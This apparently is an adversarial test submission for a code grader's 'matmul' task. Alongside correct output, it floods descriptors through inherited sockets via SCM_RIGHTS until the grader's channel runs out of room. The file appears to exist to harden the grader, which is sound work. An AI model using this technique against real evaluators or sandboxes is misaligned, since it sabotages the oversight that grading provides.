"""Sends descriptors over the grader's channel until the grader has no more room for them, with frames that look right.

covers = ["inherited descriptors"]
task = "matmul"
verdict = ["ACCEPTED", "RUNTIME_ERROR", "WRONG_ANSWER"]
"""

import array
import os
import socket
import stat


def matmul(a, b):
    for descriptor in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                continue
            channel = socket.socket(fileno=os.dup(descriptor))
            files = array.array("i", [os.open("/proc/self/exe", os.O_RDONLY) for _ in range(100)])
            for _ in range(40):
                channel.sendmsg([b"\0\0\0\0\x16"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)], socket.MSG_DONTWAIT)
        except OSError:
            pass
    return a @ b
